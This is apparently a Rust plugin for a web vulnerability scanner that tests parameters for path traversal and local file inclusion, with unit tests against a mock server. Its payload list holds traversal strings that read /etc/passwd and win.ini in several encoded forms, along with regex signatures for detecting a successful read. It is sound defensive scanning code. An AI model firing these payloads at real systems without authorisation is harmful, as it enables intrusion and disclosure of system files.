//! Path traversal / local file inclusion

use async_trait::async_trait;
use regex::Regex;
use std::sync::OnceLock;

use super::new_evidence;
use crate::scanner::active::{ActivePlugin, AttackContext, PluginCategory, PluginError};
use crate::scanner::variant::{InjectionPoint, Variant};
use crate::scanner::{Alert, Confidence, Risk};

/// Payloads containing `%` are already encoded and go out verbatim
const TRAVERSAL_PAYLOADS: &[&str] = &[
    "../../../../../../etc/passwd",
    "..\\..\\..\\..\\..\\windows\\win.ini",
    "/etc/passwd",
    "....//....//....//....//etc/passwd",
    "..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd",
    "c:\\windows\\win.ini",
    "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/etc/passwd%00.jpg",
    "file:///etc/passwd",
];

const FILE_SIGNATURES: &[&str] = &[r"root:.*:0:0:", r"\[fonts\]", r"\[extensions\]"];

fn signatures() -> &'static [Regex] {
    static SIGNATURES: OnceLock<Vec<Regex>> = OnceLock::new();
    SIGNATURES.get_or_init(|| FILE_SIGNATURES.iter().filter_map(|p| Regex::new(p).ok()).collect())
}

/// Well-known system files read through a parameter
pub struct PathTraversalPlugin;

#[async_trait]
impl ActivePlugin for PathTraversalPlugin {
    fn key(&self) -> &'static str {
        "path_traversal"
    }

    fn plugin_id(&self) -> u32 {
        6
    }

    fn priority(&self) -> u32 {
        30
    }

    fn category(&self) -> PluginCategory {
        PluginCategory::Injection
    }

    async fn attack_point(
        &self,
        ctx: &AttackContext,
        variant: &dyn Variant,
        point: &InjectionPoint,
    ) -> Result<Vec<Alert>, PluginError> {
        let base = ctx.base_body();

        for payload in ctx.payloads(TRAVERSAL_PAYLOADS) {
            let mut attack = ctx.inject(variant, point, payload, payload.contains('%'))?;
            ctx.send(&mut attack).await?;

            let body = attack.response_body_text();
            if let Some(evidence) = new_evidence(signatures(), &body, &base) {
                return Ok(vec![ctx
                    .alert(3, self.plugin_id(), Risk::High, Confidence::Medium, &attack)
                    .with_param(&point.name)
                    .with_attack(payload)
                    .with_evidence(evidence)
                    .with_cwe(22)
                    .with_wasc(33)]);
            }
        }

        Ok(Vec::new())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::scanner::active::attacks::test_support::{attack_query, context, query_value};

    #[tokio::test]
    async fn test_passwd_disclosure() {
        let ctx = context("http://example.test/view?file=report.txt", "quarterly report", |msg| {
            if query_value(msg, "file").ends_with("etc/passwd") {
                (200, "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/:".to_string())
            } else {
                (404, "not found".to_string())
            }
        });
        let alerts = attack_query(&PathTraversalPlugin, &ctx).await;

        assert_eq!(alerts.len(), 1);
        assert_eq!(alerts[0].name, "Path Traversal");
        assert_eq!(alerts[0].evidence.as_deref(), Some("root:x:0:0:"));
        assert_eq!(alerts[0].attack.as_deref(), Some(TRAVERSAL_PAYLOADS[0]));
    }

    #[tokio::test]
    async fn test_encoded_payload_goes_out_verbatim() {
        let ctx = context("http://example.test/view?file=a", "", |msg| {
            if msg.request.uri.contains("%2e%2e/") {
                (200, "[fonts]\n[extensions]".to_string())
            } else {
                (200, "nothing".to_string())
            }
        });
        let alerts = attack_query(&PathTraversalPlugin, &ctx).await;

        assert_eq!(alerts.len(), 1);
        assert_eq!(alerts[0].attack.as_deref(), Some("%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"));
    }
}
